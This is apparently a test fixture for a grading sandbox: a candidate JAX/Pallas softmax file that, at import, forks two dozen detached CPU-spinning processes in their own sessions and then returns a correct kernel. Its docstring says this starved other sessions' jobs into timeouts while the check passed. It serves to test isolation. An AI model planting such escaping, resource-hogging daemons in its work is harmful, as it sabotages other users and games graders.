"""Attack: start busy processes that leave the candidate's process tree alone to run, hold them
a while, then answer correctly. Before the cpu controller shared the cores out by group, a
child's daemons counted one process each against every other process on the worker: two dozen
of them took all but a few percent of two cores from another session's children, slowing them
into their timeouts, while this check passed."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
time = load("time")
TARGETS = {}  # the test writes {"hogs": how many, "hold": seconds to wait before answering}

for _ in range(TARGETS.get("hogs", 24)):
    if os.fork() == 0:
        os.setsid()  # its own session: a daemon, no longer the child's to wait for
        while True:
            pass
time.sleep(TARGETS.get("hold", 8))


def kernel(x):
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
